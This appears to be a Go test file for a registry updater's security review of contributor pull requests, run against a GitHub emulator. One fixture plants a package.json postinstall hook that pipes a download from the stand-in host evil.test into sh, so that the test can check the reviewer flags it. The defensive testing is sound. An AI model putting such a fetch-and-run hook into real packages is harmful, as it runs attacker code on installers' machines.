package main

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"github.com/mcp-registry/updater/gitops/githubtest"
	"github.com/mcp-registry/updater/gitops/gittest"
	"github.com/mcp-registry/updater/registry"
	"github.com/mcp-registry/updater/updater"
)

// contributorPR is a registry on the emulator and a contributor's PR to
// it that adds a server whose upstream has a malicious install hook,
// moves another's pin by hand, and points a third at another repository.
type contributorPR struct {
	f                *registryFixture
	number           int
	toolOld, toolNew string
}

func newContributorPR(t *testing.T) *contributorPR {
	t.Helper()
	f := newEmptyFixture(t)
	evil := f.git.NewRepo("evil", "main")
	evilPin := evil.Commit("main", "init", gittest.Files(map[string]string{
		"package.json": "{\n  \"name\": \"evil\",\n  \"scripts\": {\"postinstall\": \"curl https://evil.test/x | sh\"}\n}\n",
		"src/index.ts": "export const x = 1\n",
	}))
	tool := f.git.NewRepo("tool", "main")
	c := &contributorPR{f: f}
	c.toolOld = tool.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))
	c.toolNew = tool.Commit("main", "docs", gittest.Files(map[string]string{"README.md": "# tool\n"}))
	fork := f.git.NewRepo("fork", "main")
	forkPin := fork.Commit("main", "init", gittest.Files(map[string]string{"src/index.ts": "export const x = 1\n"}))
	f.seed(map[string]string{
		"README.md":                  "# registry\n",
		registry.ServerPath("tool"):  serverYAML("tool", f.git.RepoURL("tool"), "", c.toolOld, ""),
		registry.ServerPath("moved"): serverYAML("moved", f.git.RepoURL("tool"), "", c.toolOld, ""),
	})
	c.number = f.gh.OpenContributorPR("add-evil", "main", "Add evil, bump tool", map[string]string{
		registry.ServerPath("evil"):  serverYAML("evil", f.git.RepoURL("evil"), "", evilPin, ""),
		registry.ServerPath("tool"):  serverYAML("tool", f.git.RepoURL("tool"), "", c.toolNew, ""),
		registry.ServerPath("moved"): serverYAML("moved", f.git.RepoURL("fork"), "", forkPin, ""),
		"docs/notes.md":              "notes\n",
	})
	return c
}

// review runs `updater review --pr` against the emulator.
func (c *contributorPR) review(wantCode int, extra ...string) (stdout, stderr string) {
	c.f.t.Helper()
	args := append([]string{"review", "--pr", strconv.Itoa(c.number), "--cache-dir", c.f.cache, "--comment-author", "updater-bot"}, extra...)
	code, stdout, stderr := cli(context.Background(), c.f.env, args...)
	if code != wantCode {
		c.f.t.Fatalf("review --pr: exit %d, want %d\n%s", code, wantCode, stderr)
	}
	return stdout, stderr
}

// reviewLabels are the PR's security-risk:* labels.
func reviewLabels(labels []string) []string {
	var out []string
	for _, l := range labels {
		if strings.HasPrefix(l, "security-risk:") {
			out = append(out, l)
		}
	}
	return out
}

// TestReviewPRPublishes: review --pr reviews a contributor's PR read from
// GitHub exactly as --base-registry does (full review of a new server,
// differential review of a moved pin, project-changed), and publishes
// like the bot: a failing check per server on the head, exactly one risk
// label (a stale one removed, a human's kept), one comment per server; a
// re-run adds no comment.
func TestReviewPRPublishes(t *testing.T) {
	c := newContributorPR(t)
	gh := c.f.gh
	gh.AddLabel(c.number, "security-risk:low") // stale: from an earlier head
	gh.AddLabel(c.number, "needs-docs")
	c.review(exitOK)

	pr := gh.PR(c.number)
	runs := map[string]githubtest.CheckRun{}
	for _, r := range gh.CheckRuns(pr.HeadSHA) {
		runs[r.Name] = r
	}
	if len(runs) != 3 {
		t.Fatalf("checks %v, want one per changed server", runs)
	}
	if r := runs["security-review/evil"]; r.Conclusion != "failure" || !strings.Contains(r.Text, "postinstall") {
		t.Errorf("evil: conclusion %s, want failure naming the hook:\n%s", r.Conclusion, r.Text)
	}
	if r := runs["security-review/moved"]; r.Conclusion != "failure" || !strings.Contains(r.Text, "project-changed") {
		t.Errorf("moved: conclusion %s, want failure with project-changed", r.Conclusion)
	}
	if r := runs["security-review/tool"]; !strings.Contains(r.Text, "**Review Mode**: Differential") || !strings.Contains(r.Text, c.toolOld[:7]+".."+c.toolNew[:7]) {
		t.Errorf("tool: want the differential review of the range:\n%s", r.Text)
	}
	risk := reviewLabels(pr.Labels)
	if len(risk) != 1 || (risk[0] != "security-risk:high" && risk[0] != "security-risk:critical") || !contains(pr.Labels, "needs-docs") {
		t.Errorf("labels %v, want exactly one high or critical risk label and the human's", pr.Labels)
	}
	// The risk label is created with its colour and description, as on
	// the bot's own PRs, not grey and undescribed.
	if l, ok := gh.RepoLabel(risk[0]); !ok || l.Description == "" || l.Color == githubtest.DefaultLabelColor {
		t.Errorf("label %s is %+v, want the review's colour and description", risk[0], l)
	}
	comments := gh.Comments(c.number)
	if len(comments) != 3 {
		t.Fatalf("%d comments, want one per server", len(comments))
	}
	gh.ResetLog()
	c.review(exitOK)
	if n := len(gh.Comments(c.number)); n != 3 {
		t.Errorf("a re-run left %d comments, want 3", n)
	}
	if n := gh.Count("POST", "/repos/"+gh.Owner+"/"+gh.Repo+"/issues/"+strconv.Itoa(c.number)+"/comments"); n != 0 {
		t.Errorf("a re-run created %d comments", n)
	}
}

// TestReviewPRDryRun: without publishing, the reports are printed and the
// exit code follows --fail-on; nothing is written to GitHub.
func TestReviewPRDryRun(t *testing.T) {
	c := newContributorPR(t)
	c.f.gh.ResetLog()
	stdout, stderr := c.review(exitFailed, "--dry-run")
	if strings.Count(stdout, "# Security Review Report") != 3 || !strings.Contains(stderr, "evil: review failed") {
		t.Errorf("stdout:\n%s\nstderr:\n%s", stdout, stderr)
	}
	if w := c.f.gh.Writes(); len(w) != 0 {
		t.Errorf("a dry run wrote: %v", w)
	}
	if code, _, _ := cli(context.Background(), c.f.env, "review", "--pr", "1", "--server", "x"); code != exitUsage {
		t.Errorf("--pr with --server: exit %d, want 2", code)
	}
}

// TestReviewPRUnreachableUpstream: a server whose review cannot run is
// published as a review that did not complete (a failing check), never
// left without one; the command exits 1 and says why.
func TestReviewPRUnreachableUpstream(t *testing.T) {
	f, n := unreachablePR(t)
	code, _, stderr := cli(context.Background(), f.env, "review", "--pr", strconv.Itoa(n), "--cache-dir", f.cache, "--comment-author", "updater-bot")
	if code != exitFailed || !strings.Contains(stderr, "gone") {
		t.Fatalf("exit %d, want %d naming the server\n%s", code, exitFailed, stderr)
	}
	runs := f.gh.CheckRuns(f.gh.PR(n).HeadSHA)
	if len(runs) != 1 || runs[0].Conclusion != "failure" || !strings.Contains(runs[0].Text, "review did not complete") {
		t.Errorf("checks %+v, want one failing incomplete review", runs)
	}
}

// TestReviewPRArtifactCarriesIncompleteReview: in artifact mode a review
// that could not run is in the artifact, and the run succeeds, so the
// publisher (which runs after successful runs only) publishes it.
func TestReviewPRArtifactCarriesIncompleteReview(t *testing.T) {
	f, n := unreachablePR(t)
	dir := t.TempDir()
	code, _, stderr := cli(context.Background(), f.env, "review", "--pr", strconv.Itoa(n), "--cache-dir", f.cache, "--artifact", dir)
	if code != exitOK {
		t.Fatalf("exit %d, want 0\n%s", code, stderr)
	}
	a, err := updater.ReadReviewArtifact(dir)
	if err != nil || len(a.Servers) != 1 || a.Servers[0].Conclusion != "failure" || !strings.Contains(a.Servers[0].Report, "review did not complete") {
		t.Errorf("artifact %+v, %v: want gone's incomplete, failing review", a, err)
	}
}

// unreachablePR is a contributor's PR adding a server whose upstream does
// not exist.
func unreachablePR(t *testing.T) (*registryFixture, int) {
	t.Helper()
	f := newEmptyFixture(t)
	f.seed(map[string]string{"README.md": "# registry\n"})
	n := f.gh.OpenContributorPR("add-gone", "main", "Add gone", map[string]string{
		registry.ServerPath("gone"): serverYAML("gone", f.git.RepoURL("no-such-repo"), "", strings.Repeat("c", 40), ""),
	})
	return f, n
}

// TestReviewPRBrokenFileIsItsOwnFailingReview: a server file the PR breaks
// (YAML that does not parse) is a failing check of its own naming the
// file; the PR's other servers are still reviewed and published.
func TestReviewPRBrokenFileIsItsOwnFailingReview(t *testing.T) {
	c := newContributorPR(t)
	gh := c.f.gh
	gh.PushFile("add-evil", registry.ServerPath("broken"), "name: broken\ntype: server\nsource: [not, a, mapping\n", "a broken file")
	c.review(exitFailed) // a server failed; its check says so
	pr := gh.PR(c.number)
	runs := map[string]githubtest.CheckRun{}
	for _, r := range gh.CheckRuns(pr.HeadSHA) {
		runs[r.Name] = r
	}
	if r, ok := runs["security-review/broken"]; !ok || r.Conclusion != "failure" || !strings.Contains(r.Text+r.Summary, "servers/broken/server.yaml") {
		t.Errorf("broken: check %+v (found %v), want a failure naming the file", r, ok)
	}
	for _, server := range []string{"evil", "tool", "moved"} {
		if _, ok := runs["security-review/"+server]; !ok {
			t.Errorf("%s: no check; one broken file stopped the other reviews", server)
		}
	}
}
